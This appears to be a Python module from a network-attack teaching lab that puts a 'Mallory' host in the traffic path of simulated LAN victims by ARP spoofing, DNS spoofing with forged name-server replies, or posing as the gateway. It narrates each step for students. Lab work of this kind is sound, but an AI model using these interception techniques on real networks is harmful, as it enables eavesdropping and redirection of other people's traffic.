"""Getting on the path, on the LAN: three ways to where other people's traffic flows through.

    arp_spoofing   lie to all hosts about whose card is whose, and forward what then comes
    dns_spoofing   stand only between the members and the name server, answer for it, and relay what then comes
    gateway        be their router; nobody has to be lied to

Where a way leads nowhere, the foothold is told why, and the attack goes on with nothing flowing through it.
"""

import contextlib
from collections.abc import AsyncIterator, Callable
from itertools import permutations, product
from typing import Final

from attacks import Foothold
from attacks.arp import Pair, poisoned, true_cards
from attacks.intercept import Forge, forwarding
from common import dns
from common.lan import PLAN, PREFIX, LanHost

VICTIMS: Final = ("alice", "server", "bob", "carol", "dns")

FLOWING: Final = (
    "From now on what Alice sends to the server is addressed to Mallory's card. Her kernel (ip_forward) changes "
    "the two cards at the head of the frame, counts its time to live down by one, and sends it on; the addresses of "
    "Alice and the server stay as they are, so neither sees a difference."
)
"""For those who follow slowly."""


@contextlib.asynccontextmanager
async def position(foothold: Foothold, host: LanHost, way: str) -> AsyncIterator[dict[str, str]]:
    """Be where all hosts' traffic flows through, or, to spoof DNS, only the questions of those who ask; until the
    block ends. Gives the true cards of all others, by address. Raises LabError where one of them is not there."""
    others = {name: f"{PREFIX}.{PLAN[name]}" for name in VICTIMS}
    with host.packet_socket() as card, forwarding(host):
        cards = await true_cards(host, card, list(others.values()), foothold.name_of)
        if "gateway" in (way, foothold.via):
            await foothold.explain(
                "The members' machines were told by DHCP, when they joined this Wi-Fi, that the way to everywhere is "
                f"Mallory's access point ({host.mac}). Not one forged frame is sent: they ask for that card by "
                "ARP, get a true answer, and hand her all they have to say."
            )
            await foothold.explain(FLOWING)
            yield cards
        else:
            pairs = list(permutations(others.values(), 2)) if way == "arp_spoofing" else questions(others)
            async with poisoned(foothold, host, card, cards, pairs):
                if way == "arp_spoofing":
                    await foothold.explain(FLOWING)
                yield cards


def questions(hosts: dict[str, str]) -> list[Pair]:
    """Between each member and the name server, both ways: a name server that has to ask where a member is would do it
    by broadcast, and with that put the member's entry right."""
    members = [address for name, address in hosts.items() if name not in ("dns", "server")]
    there = [(member, name_server) for member, name_server in product(members, [hosts["dns"]])]
    return [*there, *((name_server, member) for member, name_server in there)]


def forging(name: str, address: str, note: Callable[[str], None]) -> Forge:
    """Answer, to whoever asks for this name, that it is at this address. All other questions go on."""

    def forge(query: bytes) -> bytes:
        reply = dns.reply_to(query, {name: address})
        if reply is None or not reply.rr:
            return b""
        note(f"DNS: somebody asks for {name}; answered, in the name server's name, that it is at {address}")
        return bytes(reply.pack())

    return forge
